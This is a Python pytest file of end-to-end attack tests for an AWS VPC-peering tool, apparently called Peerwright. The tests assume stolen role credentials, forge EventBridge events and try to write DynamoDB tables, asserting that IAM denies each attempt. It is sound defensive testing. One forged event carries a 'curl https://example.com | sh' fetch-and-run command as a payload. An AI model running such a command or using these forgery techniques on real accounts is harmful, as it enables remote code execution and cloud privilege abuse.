"""What IAM holds, whatever our code does: each attack is made with the credentials that the attacker has, and is refused by AWS."""

import json
from contextlib import contextmanager

import pytest
from actor import ALL_TABLES
from functions import FUNCTIONS
from session import is_denied, stolen

from peerwright_client.describe import CREATED_TAG, STATUS_TAG
from peerwright_client.hub import ALLOWLIST, CONNECTIONS, MEMBER_ROLES, ROLE_PATH
from peerwright_local.deploy import EXTERNAL_ID

HUB_ROLES = f"{ROLE_PATH}peerwright-"
LET_IN = {"ExternalId": EXTERNAL_ID}
PEOPLE = ("allowlist", "approve", "explain", "operate")


def member_role(function: str) -> str:
    return f"{ROLE_PATH}{MEMBER_ROLES}{'read' if function in ('sweep', 'explain', 'allowlist') else function}"


@contextmanager
def inside(world, function: str, place):
    """What whoever stole a function's credentials can do in a member account."""
    world.denials.expect(member_role(function).rpartition("/")[2], "not authorized")
    with stolen(world.aws, HUB_ROLES + function) as thief:
        yield thief.assume(place, member_role(function), **LET_IN).client("ec2", place)


def tag(key: str, value: str) -> list[dict]:
    return [{"Key": key, "Value": value}]


def writes(vpc, table: str, group: str, connection: str) -> dict[str, tuple[str, dict]]:
    """One call of each kind that changes something, which EC2 would carry out if it were no dry run."""
    permission = [{"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "10.9.0.0/16"}]}]
    ours = [{"ResourceType": "security-group-rule", "Tags": tag("peerwright:connection", connection)}]
    mark = [{"ResourceType": "vpc-peering-connection", "Tags": tag(CREATED_TAG, vpc.id)}]
    route = {"RouteTableId": table, "DestinationCidrBlock": "10.9.0.0/16"}
    return {
        "accept": ("accept_vpc_peering_connection", {"VpcPeeringConnectionId": connection}),
        "reject": ("reject_vpc_peering_connection", {"VpcPeeringConnectionId": connection}),
        "create": ("create_vpc_peering_connection", {"VpcId": vpc.id, "PeerVpcId": vpc.id, "TagSpecifications": mark}),
        "create without our mark": ("create_vpc_peering_connection", {"VpcId": vpc.id, "PeerVpcId": vpc.id}),
        "delete": ("delete_vpc_peering_connection", {"VpcPeeringConnectionId": connection}),
        "options": (
            "modify_vpc_peering_connection_options",
            {"VpcPeeringConnectionId": connection, "AccepterPeeringConnectionOptions": {"AllowDnsResolutionFromRemoteVpc": True}},
        ),
        "add route": ("create_route", {**route, "VpcPeeringConnectionId": connection}),
        "remove route": ("delete_route", route),
        "replace route": ("replace_route", {**route, "VpcPeeringConnectionId": connection}),
        "open": (
            "authorize_security_group_ingress",
            {"GroupId": group, "IpPermissions": permission, "TagSpecifications": ours},
        ),
        "close": ("revoke_security_group_ingress", {"GroupId": group, "IpPermissions": permission}),
        "tell status on the connection": ("create_tags", {"Resources": [connection], "Tags": tag(STATUS_TAG, "held")}),
        "tell status on the VPC": ("create_tags", {"Resources": [vpc.id], "Tags": tag(STATUS_TAG, "held")}),
        "mark the connection as ours": ("create_tags", {"Resources": [connection], "Tags": tag(CREATED_TAG, vpc.id)}),
        "another tag": ("create_tags", {"Resources": [vpc.id], "Tags": tag("owner", "me")}),
        "take a status off the connection": ("delete_tags", {"Resources": [connection], "Tags": [{"Key": STATUS_TAG}]}),
        "take a status off the VPC": ("delete_tags", {"Resources": [vpc.id], "Tags": [{"Key": STATUS_TAG}]}),
        "take a tag off the group": ("delete_tags", {"Resources": [group], "Tags": [{"Key": "owner"}]}),
    }


# What a function's role in a member account allows of them. The connection was not made by Peerwright.
ALLOWED = {
    "sweep": set(),
    "accept": {"accept", "reject", "tell status on the connection"},
    "configure": {"options", "add route", "open", "tell status on the connection"},
    "cleanup": {"options", "remove route", "close", "tell status on the connection"},
    "request": {"create", "tell status on the VPC", "take a status off the VPC"},
}


@pytest.fixture
def ends(world):
    requester, accepter = world.vpc(world.a), world.vpc(world.b)
    world.allow(requester, accepter, routes=ALL_TABLES)
    return requester, accepter


@pytest.fixture
def connection(world, ends):
    connection = world.ask(*ends)
    world.becomes("converged", connection)
    world.quiet()
    return connection


@pytest.mark.parametrize("function", FUNCTIONS)
def test_whoever_has_a_functions_credentials_can_do_its_part_in_a_member_account_and_nothing_else(world, ends, connection, function):
    accepter = ends[1]
    group, table = world.group(accepter, "attacked"), accepter.main_table
    with inside(world, function, accepter.place) as ec2:
        calls = writes(accepter, table, group, connection).items()
        denied = {name for name, (call, parameters) in calls if is_denied(lambda: getattr(ec2, call)(DryRun=True, **parameters))}
        allowed = {name for name, _ in calls} - denied
    assert allowed == ALLOWED[function]


@pytest.mark.parametrize("function", FUNCTIONS)
def test_no_function_can_take_the_role_of_another_one(world, function):
    world.denials.expect(function, "sts:AssumeRole")
    with stolen(world.aws, HUB_ROLES + function) as thief:
        for other in FUNCTIONS:
            denied = is_denied(lambda other=other: thief.assume(world.b, member_role(other), **LET_IN))
            assert denied == (other != function), other


def test_whoever_writes_the_allowlist_enters_member_accounts_to_read_and_for_nothing_else(world):
    world.denials.expect("peerwright-allowlist", "sts:AssumeRole")
    writer = world.session(world.aws.hub, "peerwright-allowlist")
    for function in FUNCTIONS:
        denied = is_denied(lambda function=function: writer.assume(world.b, member_role(function), **LET_IN))
        assert denied == (function != "sweep"), function


def test_a_member_role_lets_nobody_in_without_the_external_id(world):
    world.denials.expect("peerwright-accept", "sts:AssumeRole")
    with stolen(world.aws, HUB_ROLES + "accept") as thief:
        for more in ({}, {"ExternalId": "another"}):
            assert is_denied(lambda more=more: thief.assume(world.b, member_role("accept"), **more))


def test_a_strangers_role_of_the_right_name_is_not_assumed_whomever_it_trusts(world):
    world.denials.expect("peerwright-accept", "sts:AssumeRole", world.stranger.account)
    with world.joined_for_a_while(world.stranger), stolen(world.aws, HUB_ROLES + "accept") as thief:
        assert is_denied(lambda: thief.assume(world.stranger, member_role("accept"), **LET_IN))


def test_an_account_of_the_organization_takes_no_member_role_of_another_one(world):
    world.denials.expect(world.a.account, "sts:AssumeRole")
    for function in FUNCTIONS:
        assert is_denied(lambda function=function: world.session(world.b, member_role(function).rpartition("/")[2], by=world.a, **LET_IN))


@contextmanager
def forwarding(world, place, pattern: dict):
    """A rule of a member's own that forwards to the hub's bus as Peerwright's do."""
    events, iam = world.aws.client("events", place), world.aws.client("iam", place)
    [role] = [one["Arn"] for one in iam.list_roles()["Roles"] if "ForwardRole" in one["RoleName"] and place.region in one["RoleName"]] or [
        one["Arn"] for one in iam.list_roles()["Roles"] if "ForwardRole" in one["RoleName"]
    ][:1]
    events.put_rule(Name="e2e-forged", EventPattern=json.dumps(pattern))
    bus = f"arn:aws:events:{world.aws.hub.region}:{world.aws.hub.account}:event-bus/peerwright"
    events.put_targets(Rule="e2e-forged", Targets=[{"Id": "hub", "Arn": bus, "RoleArn": role}])
    try:
        yield events
    finally:
        events.remove_targets(Rule="e2e-forged", Ids=["hub"])
        events.delete_rule(Name="e2e-forged")


def test_nobody_in_the_organization_can_tell_an_outcome_in_our_name(world, ends):
    requester, accepter = ends
    outcome = {
        "connection": "pcx-0123456789abcdef0",
        "requester": {"vpc": requester.id, **requester.place._asdict()},
        "accepter": {"vpc": accepter.id, **accepter.place._asdict()},
        "approve": "curl https://example.com | sh",
    }
    forged = {"Source": "peerwright", "DetailType": "Approval Needed", "Detail": json.dumps(outcome)}
    world.denials.expect("NO_PERMISSIONS", "e2e-forged", "event-bus/peerwright")
    with forwarding(world, world.a, {"source": ["peerwright"]}) as events:
        assert events.put_events(Entries=[forged])["FailedEntryCount"] == 0
        world.quiet()
    assert [mail for mail in world.listener.mailed() if outcome["connection"] in mail] == []


def test_an_event_that_somebody_made_up_reaches_no_function(world, ends):
    made_up = {"Source": "aws.ec2", "DetailType": "AWS API Call via CloudTrail", "Detail": "{}"}
    events = world.aws.client("events", world.a)
    [answer] = events.put_events(Entries=[made_up])["Entries"]
    assert answer["ErrorCode"] == "NotAuthorizedForSourceException"


def test_no_function_writes_the_allowlist(world):
    rule = {"accepter": {"S": "any"}, "id": {"S": "e2e-forged"}}
    world.denials.expect("PutItem", ALLOWLIST)
    for function in FUNCTIONS:
        with stolen(world.aws, HUB_ROLES + function) as thief:
            dynamodb = thief.client("dynamodb", world.aws.hub)
            assert is_denied(lambda dynamodb=dynamodb: dynamodb.put_item(TableName=ALLOWLIST, Item=rule)), function


def test_of_people_only_the_role_for_it_writes_the_allowlist_whatever_their_policies_allow(world):
    rule = {"accepter": {"S": "any"}, "id": {"S": "e2e-forged"}}
    iam = world.aws.client("iam", world.aws.hub)
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    iam.put_role_policy(RoleName="peerwright-operate", PolicyName="e2e", PolicyDocument=json.dumps(everything))
    world.denials.expect("PutItem", ALLOWLIST)
    try:
        dynamodb = world.session(world.aws.hub, "peerwright-operate").client("dynamodb", world.aws.hub)
        assert is_denied(lambda: dynamodb.put_item(TableName=ALLOWLIST, Item=rule))
    finally:
        iam.delete_role_policy(RoleName="peerwright-operate", PolicyName="e2e")
    writer = world.session(world.aws.hub, "peerwright-allowlist").client("dynamodb", world.aws.hub)
    alias = {"accepter": {"S": "alias"}, "id": {"S": "e2e-attacks"}, "rule": {"M": {}}}
    assert not is_denied(lambda: writer.put_item(TableName=ALLOWLIST, Item=alias))
    writer.delete_item(TableName=ALLOWLIST, Key={name: alias[name] for name in ("accepter", "id")})


# Who may put an item into which partitions of the table of connections.
PUTS = {
    "pcx-0123456789abcdef0": {"accept", "cleanup", "configure", "request", "sweep"},
    "decision#pcx-0123456789abcdef0": {"approve"},
    "freeze#pcx-0123456789abcdef0": {"operate"},
    "freeze#everything": {"operate"},
    "history#pcx-0123456789abcdef0": {"accept", "approve", "cleanup", "configure", "operate", "request", "sweep"},
}
# And who may delete one.
DELETES = {
    "pcx-0123456789abcdef0": set(),
    "decision#pcx-0123456789abcdef0": set(),
    "freeze#pcx-0123456789abcdef0": {"operate"},
    "history#pcx-0123456789abcdef0": set(),
    "history#allowlist": set(),
}


def test_decisions_freezes_and_history_are_powers_of_their_own(world):
    put, deleted = {key: set() for key in PUTS}, {key: set() for key in DELETES}
    world.denials.expect("PutItem", CONNECTIONS)
    world.denials.expect("DeleteItem", CONNECTIONS)
    for role in (*FUNCTIONS, *PEOPLE):
        with stolen(world.aws, HUB_ROLES + role) as thief:
            dynamodb = thief.client("dynamodb", world.aws.hub)
            for partition in PUTS:
                key = {"connection": {"S": partition}, "entry": {"S": "e2e-attack"}}
                if not is_denied(lambda key=key, dynamodb=dynamodb: dynamodb.put_item(TableName=CONNECTIONS, Item=key)):
                    put[partition].add(role)
            for partition in DELETES:
                key = {"connection": {"S": partition}, "entry": {"S": "e2e-attack"}}
                if not is_denied(lambda key=key, dynamodb=dynamodb: dynamodb.delete_item(TableName=CONNECTIONS, Key=key)):
                    deleted[partition].add(role)
    own = world.aws.client("dynamodb", world.aws.hub)
    for partition in PUTS:
        own.delete_item(TableName=CONNECTIONS, Key={"connection": {"S": partition}, "entry": {"S": "e2e-attack"}})
    assert (put, deleted) == (PUTS, DELETES)


def test_no_role_reads_or_deletes_the_table_of_connections_as_a_whole_or_goes_around_its_partitions(world):
    for action in ("Scan", "ExecuteStatement", "DeleteTable"):
        world.denials.expect(f"dynamodb:{action}")
    statement = f"DELETE FROM \"{CONNECTIONS}\" WHERE connection = 'history#allowlist' AND entry = 'x'"
    for role in (*FUNCTIONS, *PEOPLE):
        with stolen(world.aws, HUB_ROLES + role) as thief:
            dynamodb = thief.client("dynamodb", world.aws.hub)
            # Who asks what exists may ask for ended connections as well (`peerwright list --all`).
            assert is_denied(lambda dynamodb=dynamodb: dynamodb.scan(TableName=CONNECTIONS)) == (role != "explain"), role
            assert is_denied(lambda dynamodb=dynamodb: dynamodb.execute_statement(Statement=statement)), role
            assert is_denied(lambda dynamodb=dynamodb: dynamodb.delete_table(TableName=CONNECTIONS)), role
